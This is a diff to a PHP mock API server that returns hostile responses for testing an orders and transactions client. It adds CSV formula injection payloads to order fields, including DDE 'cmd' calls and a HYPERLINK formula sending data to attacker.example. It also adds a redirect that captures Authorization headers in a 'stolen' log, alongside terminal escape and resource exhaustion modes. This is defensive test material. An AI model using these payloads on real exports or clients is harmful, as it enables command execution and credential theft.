@@ -10,7 +10,10 @@
  * with Retry-After 99999999999999999999 on OR11), deep_nesting (one order nested 200 levels),
  * gzip_bomb (OR11 as 1 MB of gzip inflating to 1 GB), huge_content_length (Content-Length of
  * 10^15 on OR11), drip_feed (OR11 one byte every 200 ms), nul_escape (NUL and ANSI escapes in
- * the order's strings and in an error message), negative_quantity, many_lines (100,000 lines).
+ * the order's strings and in an error message), negative_quantity, many_lines (100,000 lines),
+ * csv_formula (spreadsheet formulas in the order's commercial id and its TL02 rows' strings),
+ * key_redirect (OR11 answered with a redirect to another address of this server, which records
+ * in stolen.log, beside the config file, any request that reaches it).
  * Orders other than `order_id` are passed through untouched, so a well-formed order always
  * shares the page with the spoiled one.
  */
@@ -26,6 +29,23 @@ $path = (string) parse_url($uri, PHP_URL_PATH);
 $is_or11 = $method === 'GET' && $path === '/api/orders';
 $is_tl02 = $method === 'GET' && $path === '/api/sellerpayment/transactions_logs';
 
+if ($path === '/stolen') {
+    $headers = array_change_key_case(getallheaders());
+    file_put_contents(dirname((string) getenv('HOSTILE_CONFIG')) . '/stolen.log', json_encode([
+        'uri' => $uri,
+        'authorization' => $headers['authorization'] ?? null,
+    ]) . "\n", FILE_APPEND);
+    http_response_code(200);
+    header('Content-Type: application/json');
+    echo '{"orders":[],"total_count":0}';
+    return true;
+}
+if ($is_or11 && $mode === 'key_redirect') {
+    // Another host, as far as the client can tell (the same server under another name).
+    http_response_code(302);
+    header('Location: http://localhost:' . $_SERVER['SERVER_PORT'] . '/stolen');
+    return true;
+}
 if ($is_or11 && $mode === 'retry_after') {
     http_response_code(429);
     header('Retry-After: 99999999999999999999');
@@ -106,6 +126,20 @@ if ($is_tl02 && $status === 200 && $mode === 'tl02_overflow') {
     // Each row's amount, a JSON number or a numeric string, becomes 1e25.
     $body = (string) preg_replace('/"amount"\s*:\s*("?)-?[0-9.eE+-]+\1/', '"amount":1e25', $body);
 }
+if ($is_tl02 && $status === 200 && $mode === 'csv_formula') {
+    // The spoiled order's rows carry formulas in the strings a finance export shows.
+    $page = json_decode($body, true);
+    foreach ($page['data'] ?? [] as $i => $row) {
+        if (($row['entities']['order']['id'] ?? null) !== $bad) {
+            continue;
+        }
+        $page['data'][$i]['entities']['order']['id'] = "=cmd|' /C calc'!A0";
+        $page['data'][$i]['entities']['order']['commercial_id'] = '=HYPERLINK("http://attacker.example/"&A1,"x")';
+        $page['data'][$i]['accounting_document_number'] = '+SUM(1,1)';
+        $page['data'][$i]['seller_billing_cycle_id'] = "-2+3\tcmd";
+    }
+    $body = (string) json_encode($page, JSON_UNESCAPED_SLASHES | JSON_PRESERVE_ZERO_FRACTION);
+}
 if ($mode === 'nul_escape' && $status >= 400) {
     $body = (string) json_encode(['status' => $status, 'message' => "refused\u{0000}\u{001b}[2J\u{001b}]0;owned\u{0007}"]);
 }
@@ -151,6 +185,9 @@ function spoil_order(array $order, string $mode): array
             foreach ($order['order_lines'] as $j => $line) {
                 $order['order_lines'][$j]['quantity'] = -5;
             }
+            break;
+        case 'csv_formula':
+            $order['commercial_id'] = '@SUM(1+1)*cmd|\' /C calc\'!A0';
             break;
         case 'many_lines':
             $line = $order['order_lines'][0];
